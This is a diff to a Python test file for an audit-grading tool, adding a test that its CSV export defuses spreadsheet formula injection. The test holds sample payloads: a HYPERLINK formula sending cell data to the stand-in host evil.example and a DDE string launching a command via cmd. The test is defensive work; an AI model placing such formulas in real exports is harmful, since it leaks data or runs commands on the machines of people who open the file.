@@ -71,8 +71,8 @@ def test_double_review_samples_wait_for_a_second_different_reviewer(session: Ses
     assert [s.sample_id for s in nurse.samples] == [s.id for s in samples[2:]]
     assert [s.sample_id for s in doctor.samples] == [samples[0].id] + [s.id for s in samples[2:]]
     assert doctor.samples[0].second_review and not doctor.samples[1].second_review
-    clinical = team_status(session, workspace, now=NOW).task_types[0]
-    assert (clinical.graded_week, clinical.samples_week) == (2, 5)
+    clinical = team_status(session, workspace, now=NOW, viewer=None).task_types[0]
+    assert (clinical.graded_week, clinical.samples_week) == (1, 5)  # a lone grade is not in
     assert clinical.backlog.waiting == 4  # three ungraded, one with one review of two
 
 
@@ -102,7 +102,7 @@ def test_team_status_counts_away_and_paused_trainers_apart_from_missing(session:
     set_away(session, workspace, user=TRAINER1, until=date(2026, 11, 30), by=LEAD, now=NOW)
     session.commit()
     _audit(session, workspace)
-    clinical, legal = team_status(session, workspace, now=NOW).task_types
+    clinical, legal = team_status(session, workspace, now=NOW, viewer=None).task_types
     assert (clinical.audited, clinical.away, clinical.missing) == (0, (TRAINER1,), (NURSE,))
     assert (legal.paused, legal.missing) == ((TRAINER2,), ())
 
@@ -193,6 +193,47 @@ def test_auditbot_export_writes_the_csv(tmp_path, monkeypatch, capsys):
     assert [(r["trainer"], r["reviewer"], r["grade"]) for r in rows] == [
         (TRAINER1, NURSE, "pass")]
     assert main(["export", "--weeks", "0", "--out", "x.csv"]) == 2
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details on the dose error")'
+
+
+def test_auditbot_export_neutralizes_cells_a_spreadsheet_would_run(tmp_path, monkeypatch):
+    database = tmp_path / "auditbot.db"
+    engine = make_engine(f"sqlite:///{database}")
+    upgrade(engine)
+    workspace = make_workspace()
+    trainers, task_types = roster_from_workspace(workspace)
+    today = datetime.now(UTC)
+    records = week_of_records(today, count=2)
+    records[0]["id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    records[1]["id"] = "-2+3"
+    with Session(engine) as session:
+        ingest(session, records_from_json_array(records), known_trainers=trainers,
+               known_task_types=task_types, now=today)
+        plan_weekly_audit(session, workspace, now=today)
+        session.commit()
+        first, second = session.exec(select(Sample).order_by(Sample.id)).all()
+        record_grade(session, workspace, sample_id=first.id or 0, reviewer=NURSE,
+                     grade="major", category="Unsafe advice", explanation=FORMULA, now=today)
+        record_grade(session, workspace, sample_id=second.id or 0, reviewer=NURSE,
+                     grade="minor", category="Unsafe advice",
+                     explanation="+ Recommends a dose above the stated maximum.", now=today)
+        session.commit()
+    engine.dispose()
+    (tmp_path / "auditbot.toml").write_text(_toml())
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{database}")
+    monkeypatch.setenv("AUDITBOT_CONFIG", str(tmp_path / "auditbot.toml"))
+    assert main(["export", "--weeks", "1", "--out", "grades.csv"]) == 0
+    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as written:
+        rows = list(csv.DictReader(written))
+    by_output = {r["output_id"]: r for r in rows}
+    assert set(by_output) == {"'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"}
+    assert by_output["'@SUM(1+1)*cmd|' /C calc'!A0"]["explanation"] == f"'{FORMULA}"
+    assert by_output["'-2+3"]["explanation"] == "'+ Recommends a dose above the stated maximum."
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
 
 def _toml() -> str:
